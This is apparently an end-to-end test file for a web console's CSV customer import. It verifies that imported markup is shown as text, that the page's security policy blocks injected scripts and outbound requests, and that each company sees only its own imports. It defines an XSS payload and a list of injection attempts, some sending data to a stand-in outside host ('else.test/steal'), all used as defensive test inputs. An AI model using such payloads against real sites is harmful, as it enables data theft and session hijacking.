"""Content of files and records can't run scripts or leave the page."""

from playwright.sync_api import expect

from tests.e2e.console.pages import Console
from tests.e2e.importing import ended, post
from tests.e2e.remote import RemoteShop

EVIL = "<img src=x onerror=\"document.title='taken'\">"

ELSE = "https://else.test"
ADDED = "document.body.append(Object.assign(document.createElement"
ATTEMPTS = (
    f"{ADDED}('script'), {{text: 'window.ran = 1'}}))",
    f"{ADDED}('script'), {{src: '{ELSE}/x.js'}}))",
    "document.body.innerHTML += '<img src=x onerror=\"window.ran = 1\">'",
    "document.body.setAttribute('onclick', 'window.ran = 1'); document.body.click()",
    "setTimeout('window.ran = 1')",
    f"fetch('{ELSE}/steal')",
    f"new Image().src = '{ELSE}/steal'",
    f"{ADDED}('form'), {{action: '{ELSE}', id: 'f'}})); document.getElementById('f').submit()",
)


def test_markup_in_a_file_is_rendered_as_text(console: Console, vendor: RemoteShop) -> None:
    page = console.page
    quoted = EVIL.replace('"', '""')
    data = f'email,first_name\ngood@m.test,\n"{quoted}",{EVIL[:4]}\n'.encode()
    console.visit("imports/customers/new", vendor)

    console.choose(f"{EVIL[:4]}.csv", data)
    console.see("1 of 2 rows has errors")
    console.button("Import 1 row, skip 1").click()
    console.see("must be an e-mail address")

    expect(page.get_by_label("Row 2, email")).to_have_value(EVIL)
    assert page.locator("main img").count() == 0
    assert "taken" not in page.title()


def test_the_page_runs_only_its_own_scripts(console: Console, vendor: RemoteShop) -> None:
    page = console.page
    console.visit("imports/customers", vendor)
    page.evaluate(
        """() => {
            window.refused = [];
            window.last = new Promise((tell) => {
                addEventListener('securitypolicyviolation', ({effectiveDirective: what}) => {
                    window.refused.push(what);
                    if (what === 'form-action') tell();
                });
            });
        }"""
    )

    for attempt in ATTEMPTS:
        page.evaluate(f"async () => {{ try {{ {attempt} }} catch {{}} }}")
    # Not by wait_for_function, which evaluates a string in the page when it must wait.
    page.evaluate("() => window.last")

    assert page.evaluate("window.ran") is None
    assert {"connect-src", "img-src", "form-action", "require-trusted-types-for"} <= set(
        page.evaluate("window.refused")
    )
    console.errors.clear()


def test_two_companies_see_only_their_own_imports(
    console: Console, vendor: RemoteShop, other_shop: RemoteShop
) -> None:
    number = post(vendor, "customers", b"email\nmine@m.test\n", name="mine.csv")
    ended(vendor, number)
    console.visit("imports/customers", other_shop)

    console.see("No imports yet")
    console.open(f"imports/customers/{number}")

    console.see(f"There is no import {number}")
